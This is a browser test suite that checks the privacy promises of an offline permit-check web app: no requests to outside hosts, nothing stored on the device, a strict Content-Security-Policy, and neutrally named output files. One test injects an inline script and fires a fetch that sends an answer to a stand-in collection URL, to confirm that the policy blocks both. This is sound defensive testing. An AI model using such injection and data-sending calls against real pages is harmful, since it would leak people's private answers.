// "Nothing you type leaves this phone", tested in a real browser (issues #13 and #14): a full
// check asks no other host for anything and, after start-up, nothing but the app's own files
// (GETs with no query, so nothing that could carry an answer); afterwards nothing is kept on the
// device (no localStorage, sessionStorage, cookie or IndexedDB: keeping answers is the person's
// choice, data.test.mjs); the Content-Security-Policy is in force; the first load is exactly the
// files `cargo xtask size` counts (FIRST_LOAD in pwa-lib.mjs), with only the chosen language's
// words; and the files the app writes have names that say nothing (`letter.txt`,
// `notes-<date>.json`), while the name and DUF number typed for the letter are kept nowhere.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { baseUrl, foreignRequests, useBrowser } from './lib.mjs';
import {
  FIRST_LOAD,
  FIRST_LOAD_OPTIONAL,
  firstLoadPatterns,
  sitePath,
  catalog,
  plain,
  fixToday,
  TODAY,
  waitForApp,
  waitForOfflineCopy,
  continueOn,
  choose,
  waitForStep,
  travelCheck,
  TRAVEL_CASE,
  SITUATION,
  openFooterPage,
  download,
  deviceStorage,
  cacheName,
} from './pwa-lib.mjs';

const withPage = useBrowser();
const PHONE = { width: 360, height: 780 };

/** Records every Content-Security-Policy violation the page reports, from its very start. */
async function watchCsp(context) {
  await context.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__csp.push(`${e.violatedDirective} ${e.blockedURI || ''} ${e.sample || ''}`.trim());
    });
  });
}

const violations = (page) => page.evaluate(() => window.__csp);

/** Everything kept on the device, with the context's cookies (HttpOnly ones included). */
async function kept(page, context) {
  return { ...(await deviceStorage(page)), cookies: await context.cookies() };
}

test('a full check sends nothing to another host, asks only for the app\'s own files, and leaves nothing on the device', async () => {
  await withPage({ locale: 'en', viewport: PHONE }, async (page, { context, consoleErrors, requests }) => {
    await fixToday(context);
    await watchCsp(context);
    await page.goto(baseUrl);
    await waitForApp(page);
    const { source, files } = await waitForOfflineCopy(page, baseUrl);
    const startup = requests.length;

    // The travel-limits check from the start to the answer, then the footer's pages (without
    // choosing to remember anything), and the language switched there and back.
    assert.equal(await travelCheck(page), TRAVEL_CASE.expectedEn);
    await openFooterPage(page, 'safety');
    await openFooterPage(page, 'data');
    assert.equal(await page.isChecked('#data-remember'), false, 'nothing is remembered unless chosen');
    for (const tag of ['nb', 'en']) {
      await page.click('#lang-menu summary');
      await page.click(`#lang-list button[data-lang="${tag}"]`);
      await page.waitForFunction((t) => document.documentElement.lang === t, tag);
    }
    await page.waitForSelector('#data-remember');

    assert.deepEqual(foreignRequests(requests, baseUrl), [], 'no request to another host');
    for (const r of requests) {
      assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
      assert.ok(!r.url.includes('?'), `no query string: ${r.url}`);
    }
    // After start-up only the app's own files (none of which can carry an answer): what the
    // worker keeps, or a language's words.
    const later = requests.slice(startup).map((r) => sitePath(r.url, baseUrl));
    for (const path of later) {
      assert.ok(files.includes(path === '' ? './' : path) || /^pkg\/[A-Za-z-]+(\.rules)?\.ftl$/.test(path), `after start-up: ${path}`);
    }

    // Nothing was kept: no cookie, no storage, no database; the only cache is the worker's
    // copy of the app.
    const stored = await kept(page, context);
    assert.deepEqual(stored.local, {}, 'localStorage');
    assert.equal(stored.session, 0, 'sessionStorage');
    assert.equal(stored.cookie, '', 'document.cookie');
    assert.deepEqual(stored.cookies, [], 'cookies');
    assert.deepEqual(stored.databases, [], 'IndexedDB');
    assert.deepEqual(stored.caches, [cacheName(baseUrl, source)], 'the caches');

    assert.deepEqual(await violations(page), [], 'no Content-Security-Policy violation on any page');
    assert.deepEqual(consoleErrors, []);
  });
});

test('the Content-Security-Policy allows only the app itself, and is in force', async () => {
  await withPage({ locale: 'en', viewport: PHONE }, async (page, { context, requests }) => {
    await watchCsp(context);
    await page.goto(baseUrl);
    await waitForApp(page);
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    const directives = Object.fromEntries(
      csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values.join(' ')]),
    );
    assert.equal(directives['default-src'], "'self'");
    assert.equal(directives['script-src'], "'self' 'wasm-unsafe-eval'");
    assert.equal(directives['style-src'], "'self'");
    assert.equal(directives['connect-src'], "'self'");
    assert.equal(directives['img-src'], "'self'");
    assert.equal(directives['object-src'], "'none'");
    assert.equal(directives['base-uri'], "'none'");
    assert.equal(directives['form-action'], "'none'");
    assert.ok(!csp.includes('unsafe-inline') && !csp.includes("'unsafe-eval'"), csp);
    assert.equal(await page.getAttribute('meta[name="referrer"]', 'content'), 'no-referrer');
    assert.deepEqual(await violations(page), [], 'the page itself breaks nothing');

    // An inline script, an inline style and a request elsewhere are all refused.
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.body.append(script);
      const box = document.createElement('p');
      box.setAttribute('style', 'color: rgb(255, 0, 0)');
      document.body.append(box);
      const colour = getComputedStyle(box).color;
      let fetched = 'sent';
      try {
        await fetch('https://example.org/collect?answer=1');
      } catch {
        fetched = 'refused';
      }
      return { injected: window.__injected === true, red: colour === 'rgb(255, 0, 0)', fetched };
    });
    assert.deepEqual(outcome, { injected: false, red: false, fetched: 'refused' });
    await page.waitForFunction(() => window.__csp.length >= 3);
    const seen = await violations(page);
    for (const directive of ['script-src-elem', 'style-src-attr', 'connect-src']) {
      assert.ok(seen.some((v) => v.startsWith(directive)), `${directive} refused: ${seen}`);
    }
    assert.deepEqual(foreignRequests(requests, baseUrl), [], 'the refused request never left');
  });
});

test('the first load is exactly FIRST_LOAD, with only the chosen language\'s words; the rules\' words come with the first question', async () => {
  for (const tag of ['ar', 'en']) {
    // The worker is kept out: its precaching (in the background, after the page has started) is
    // no part of what the page loads.
    await withPage({ locale: tag, viewport: PHONE, serviceWorkers: 'block' }, async (page, { requests, consoleErrors }) => {
      await page.goto(baseUrl);
      await waitForApp(page);
      await page.waitForLoadState('networkidle');
      assert.deepEqual(foreignRequests(requests, baseUrl), []);
      const paths = requests.map((r) => sitePath(r.url, baseUrl));
      const patterns = firstLoadPatterns(tag);
      const optional = firstLoadPatterns(tag, FIRST_LOAD_OPTIONAL);
      const problems = [];
      for (const [i, p] of patterns.entries()) {
        const n = paths.filter((path) => p.test(path)).length;
        if (n !== 1) problems.push(`${FIRST_LOAD[i].replace('<tag>', tag)} asked for ${n} times`);
      }
      for (const path of paths) {
        if (![...patterns, ...optional].some((p) => p.test(path))) problems.push(`${path} is not in FIRST_LOAD`);
      }
      assert.deepEqual(problems, [], `${tag}: the first load was ${JSON.stringify(paths)}`);
      assert.deepEqual(paths.filter((p) => p.endsWith('.ftl')), [`pkg/${tag}.ftl`], `${tag}: only its own words, not the rules' words`);

      // The first question page brings the rules' words of that language, and no other's.
      const before = requests.length;
      await choose(page, 'start', SITUATION.temporaryPermit);
      await continueOn(page);
      await page.waitForSelector('#main form.step[data-step="want"]');
      assert.deepEqual(
        requests.slice(before).map((r) => sitePath(r.url, baseUrl)),
        [],
        'the start questions need nothing more',
      );
      await choose(page, 'want', 0);
      await continueOn(page);
      await waitForStep(page, 'permit-basis');
      const words = await catalog(baseUrl, tag, { rules: true });
      assert.equal(plain(await page.textContent('#main h1')), plain(words['q-permit-basis']), `${tag}: the question in the language`);
      const asked = requests.slice(before).map((r) => sitePath(r.url, baseUrl));
      assert.deepEqual(asked.filter((p) => p.endsWith('.ftl')), [`pkg/${tag}.rules.ftl`], `${tag}: ${asked}`);
      for (const path of asked) assert.match(path, /^pkg\/(split_[a-z_]+_\d+|chunk_\d+)\.wasm$|\.rules\.ftl$/, `a part of the app: ${path}`);
      assert.deepEqual(consoleErrors, []);
    });
  }
});

test('the files the app writes have neutral names; the name and DUF number of the letter are kept nowhere', async () => {
  await withPage({ locale: 'en', viewport: PHONE, acceptDownloads: true }, async (page, { context, requests, consoleErrors }) => {
    await fixToday(context);
    await page.goto(baseUrl);
    await waitForApp(page);
    // "I want to withdraw my application for protection": an asylum seeker's third check.
    await choose(page, 'start', SITUATION.asylumSeeker);
    await continueOn(page);
    await page.waitForSelector('#main form.step[data-step="want"]');
    const en = await catalog(baseUrl, 'en', { rules: true });
    assert.equal(plain(await page.textContent('label[for="q-want-2"]')), plain(en['check-withdrawal']));
    await choose(page, 'want', 2);
    await continueOn(page);
    for (const step of ['withdrawal-ukraine', 'withdrawal-other-permit', 'withdrawal-other-application', 'withdrawal-under-90']) {
      await waitForStep(page, step);
      await choose(page, step, 1); // No
      await continueOn(page);
    }
    await page.waitForSelector('#main .summary-list');
    await page.click('#main > .button-row > button.button');
    await page.waitForSelector('#letter-name');

    const name = 'Amina Testdottir';
    const duf = '201234567890';
    await page.fill('#letter-name', name);
    await page.fill('#letter-duf', duf);
    await page.click('.letter-section form button[type="submit"]');
    await page.waitForSelector('#letter-heading');
    const save = page.locator('.letter-output button', { hasText: plain(en['letter-download']) });
    assert.equal(await save.count(), 1, '"Save the letter as a file"');
    const [letterFile] = await Promise.all([page.waitForEvent('download'), save.click()]);
    assert.equal(letterFile.suggestedFilename(), 'letter.txt');
    const letter = await readFile(await letterFile.path(), 'utf8');
    assert.ok(letter.includes(name), 'the letter is the one written');
    assert.match(letter.replace(/\s/g, ''), new RegExp(duf));

    // "Save my answers to a file": notes-<today>.json, holding neither the name nor the number.
    await openFooterPage(page, 'data');
    assert.equal(plain(await page.textContent('#data-save')), plain(en['data-save']));
    const notes = await download(page, '#data-save');
    const day = `${TODAY.getFullYear()}-${String(TODAY.getMonth() + 1).padStart(2, '0')}-${String(TODAY.getDate()).padStart(2, '0')}`;
    assert.equal(notes.name, `notes-${day}.json`);
    const doc = JSON.parse(notes.text);
    assert.equal(doc.format, 'permit-check-answers');
    assert.equal(doc.answers.start.value, 'asylum-seeker', 'the answers given');
    for (const secret of [name, duf]) {
      assert.ok(!notes.text.includes(secret), `the answers file holds no ${secret}`);
    }

    // Nothing on the device either, and nothing went anywhere (the files are made on the device).
    const stored = await kept(page, context);
    assert.deepEqual([stored.local, stored.session, stored.cookie, stored.cookies, stored.databases], [{}, 0, '', [], []]);
    const cached = await page.evaluate(async () => {
      const out = [];
      for (const n of await caches.keys()) for (const r of await (await caches.open(n)).keys()) out.push(r.url);
      return out;
    });
    for (const url of cached) assert.ok(!url.includes(duf) && !url.includes('blob:'), url);
    assert.deepEqual(foreignRequests(requests, baseUrl), []);
    assert.deepEqual(consoleErrors, []);
  });
});
